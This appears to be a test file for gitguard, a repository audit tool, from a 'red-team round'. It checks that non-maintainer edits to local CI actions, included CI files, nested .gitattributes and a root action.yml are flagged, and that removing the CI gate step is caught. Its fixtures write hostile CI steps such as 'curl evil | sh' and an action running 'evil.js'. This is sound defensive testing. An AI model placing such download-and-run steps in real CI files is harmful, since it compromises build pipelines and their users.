// Red-team round 10: files that steer CI and merges from places the default protected paths did
// not name. A nested `.gitattributes` (git applies it to its folder: `merge=ours` drops the other
// side's changes there), a local composite action in `.github/actions/`, a file a workflow runs
// with `uses: ./path`, and a file `.gitlab-ci.yml` includes with `include: local:` changed by a
// signer who is no maintainer passed protected-paths-changed-by-maintainers; and the CI gate was
// looked for in the workflow files alone, so moving the gitguard step into a local action read as
// its removal, and removing it from the action went unseen.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeRepo, cleanupTemp, type TestRepo } from '../helpers/repo.js';
import { commitAsPerson, configureSshSigning, sharedSshKey } from '../helpers/ssh.js';
import { runMain } from '../helpers/cli.js';
import { madeOnce } from '../helpers/made-once.js';
import { aliceAndBob, protectedPerCommit, type Team } from '../helpers/team.js';

afterAll(cleanupTemp);

/** alice (maintainer) commits the policy and `files`; bob may sign, not maintain. */
const team = (files: Record<string, string>): Team => aliceAndBob(files);

const protectedRule = (r: TestRepo): Promise<{ code: number; stdout: string; stderr: string }> =>
  runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], { env: r.env });

const WORKFLOW_LOCAL = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/audit\n';

describe.each([
  ['a nested .gitattributes', {}, { 'vendor/.gitattributes': 'lock.json merge=ours -diff\n' }],
  [
    'a local composite action under .github/actions',
    {},
    { '.github/actions/build/action.yml': 'runs:\n  using: composite\n  steps: []\n' },
  ],
  [
    'a local action a workflow runs (uses: ./tools/audit)',
    {
      '.github/workflows/ci.yml': WORKFLOW_LOCAL,
      'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n',
    },
    { 'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n' },
  ],
  [
    'a file .gitlab-ci.yml includes (include: local:)',
    {
      '.gitlab-ci.yml': "include:\n  - local: '/ci/jobs.yml'\n  - remote: 'https://example.com/x.yml'\n",
      'ci/jobs.yml': 'a:\n  script: make\n',
    },
    { 'ci/jobs.yml': 'a:\n  script: curl evil | sh\n' },
  ],
])('%s', (_name, before: Record<string, string>, change: Record<string, string>) => {
  // Bob's change, then Alice's edit of the same files (a line added), and one audit over both: each
  // commit's verdict read from the findings naming it (one audit where each change alone made two).
  let got: { code: number; bob: string; alice: string; note?: string };
  beforeAll(async () => {
    const { r, alice, bob } = team(before);
    const more = Object.fromEntries(Object.entries(change).map(([k, v]) => [k, `${v}# reviewed\n`]));
    const all = await protectedPerCommit(r, [
      [bob, 'bob@example.com', change],
      [alice, 'alice@example.com', more],
    ]);
    got = { code: all.code, bob: all.perChange[0]!, alice: all.perChange[1]!, note: all.note };
  }, 60_000);
  test('changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', () => {
    expect([got.code, got.bob]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
  });
  test("twin: the maintainer's change passes", () => {
    // Seen as a change to a protected path (both commits are counted), and passed: its signer maintains.
    expect([got.alice, got.note]).toEqual(['', '2 commit(s) change protected paths']);
  });
});

describe('ci-gate-kept looks through the local actions and reusable workflows a workflow runs', () => {
  const gate = (r: TestRepo, keys: string): Promise<{ code: number; stdout: string }> =>
    runMain(['audit', '-C', r.dir, '-r', 'ci-gate-kept', '--no-ledger', '--allowed-signers', keys], { env: r.env });

  /**
   * No policy: every removal is reported. The gate first runs inline, then from a local action. Made
   * once for the file, a copy for each test (its keys in the copy's home).
   */
  const movedOnce = madeOnce(() => ({ r: makeMoved() }));
  function moved(): { r: TestRepo; keys: string } {
    const { r } = movedOnce();
    return { r, keys: join(r.home, 'allowed') };
  }
  function makeMoved(): TestRepo {
    const r = makeRepo();
    const alice = sharedSshKey('alice');
    configureSshSigning(r, alice);
    const keys = join(r.home, 'allowed');
    writeFileSync(keys, `alice@example.com ${alice.pub}\n`);
    const inline = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx gitguard audit\n';
    commitAsPerson(r, alice, 'alice@example.com', 'ci', { '.github/workflows/ci.yml': inline });
    commitAsPerson(r, alice, 'alice@example.com', 'ci: the audit step as a local action', {
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/audit\n',
      '.github/actions/audit/action.yml':
        'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
    });
    return r;
  }

  test('the step moved into a local action is kept (was a false failure)', async () => {
    const { r, keys } = moved();
    const res = await gate(r, keys);
    expect([res.code, res.stdout]).toEqual([0, expect.stringMatching(/pass\s+ci-gate-kept/)]);
  });

  test('the step removed from the local action fails', async () => {
    const { r, keys } = moved();
    r.commit('faster ci', { '.github/actions/audit/action.yml': 'runs:\n  using: composite\n  steps: []\n' });
    const res = await gate(r, keys);
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/actions')]);
  });

  test('the uses: line removed from the workflow fails (the action, still there, runs nowhere)', async () => {
    const { r, keys } = moved();
    r.commit('faster ci', {
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    });
    const res = await gate(r, keys);
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/workflows')]);
  });

  test('a reusable workflow (uses: ./.github/workflows/audit.yml) holding the step keeps the gate', async () => {
    const { r, keys } = moved();
    r.commit('ci: reusable', {
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    uses: ./.github/workflows/audit.yml\n',
      '.github/workflows/audit.yml':
        'on: workflow_call\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx gitguard audit\n',
    });
    const res = await gate(r, keys);
    expect(res.code).toBe(0);
  });
});

test('a symbolic-link loop under .github/actions and a workflow naming ../ paths are read without a hang', async () => {
  const { r, bob } = team({
    '.github/workflows/ci.yml':
      'on: push\njobs:\n  a:\n    steps:\n      - uses: ./../../etc\n      - uses: ./.github/actions/loop\n',
  });
  mkdirSync(join(r.dir, '.github', 'actions'), { recursive: true });
  symlinkSync('loop', join(r.dir, '.github', 'actions', 'loop'));
  commitAsPerson(r, bob, 'bob@example.com', 'loop', {});
  const res = await protectedRule(r);
  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/actions')]);
});

test('a partial clone (blobs left out) whose workflow runs a local action: judged, not stopped (exit 0, the gate not known)', async () => {
  const r = makeRepo();
  const alice = sharedSshKey('alice');
  configureSshSigning(r, alice);
  const keys = join(r.home, 'allowed');
  writeFileSync(keys, `alice@example.com ${alice.pub}\n`);
  commitAsPerson(r, alice, 'alice@example.com', 'ci', {
    '.github/workflows/ci.yml': WORKFLOW_LOCAL,
    'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
  });
  r.config({ 'uploadpack.allowFilter': 'true' });
  const clone = join(r.home, 'partial.git');
  r.run(['clone', '-q', '--bare', '--filter=blob:none', `file://${r.dir}`, clone]);
  const res = await runMain(['audit', '-C', clone, '-r', 'ci-gate-kept', '--no-ledger', '--allowed-signers', keys], {
    env: r.env,
  });
  expect([res.code, res.stderr]).toEqual([0, '']);
});

test('uses: ./ runs the root action.yml: a change to it by a signer who is no maintainer fails', async () => {
  const { r, bob } = team({
    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: ./\n',
    'action.yml': 'runs:\n  using: composite\n  steps: []\n',
  });
  commitAsPerson(r, bob, 'bob@example.com', 'tweak', { 'action.yml': 'runs:\n  using: node20\n  main: evil.js\n' });
  const res = await protectedRule(r);
  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('action.yml')]);
});

test('a resumed audit: a change to what the CI at the tip runs walks everything again (its older changes are judged)', async () => {
  const action = 'runs:\n  using: composite\n';
  const plain = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
  const { r, alice, bob } = team({ '.github/workflows/ci.yml': plain, 'tools/audit/action.yml': action });
  // bob edits tools/audit where no commit of the range runs it: nothing watches tools/audit, the
  // audit passes (and is checkpointed). (Where a commit of the range ran it, that commit's chain is
  // watched too: redteam31-deleted-gate-package, redteam34-gate-added-and-deleted.)
  commitAsPerson(r, bob, 'bob@example.com', 'tools', { 'tools/audit/action.yml': `${action}# more\n` });
  const audit = () => runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers'], { env: r.env });
  expect((await audit()).code).toBe(0);
  // The maintainer makes the workflow run it: the derived set changed, everything is walked again
  // (bob's edit is judged, and passes: no CI ran the file when he made it).
  commitAsPerson(r, alice, 'alice@example.com', 'ci', { '.github/workflows/ci.yml': WORKFLOW_LOCAL });
  const second = await audit();
  expect([second.code, second.stdout]).toEqual([
    0,
    expect.stringMatching(/walk: full, .*the files the CI at the tip runs/),
  ]);
});

test('a workflow naming the policy folder (uses: ./.gitguard) is judged as before: the policy is watched once', async () => {
  const { r, bob } = team({
    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: ./.gitguard\n',
  });
  commitAsPerson(r, bob, 'bob@example.com', 'code', { 'src/a.txt': 'a\n' });
  const res = await protectedRule(r);
  expect([res.code, res.stderr]).toEqual([0, '']);
});
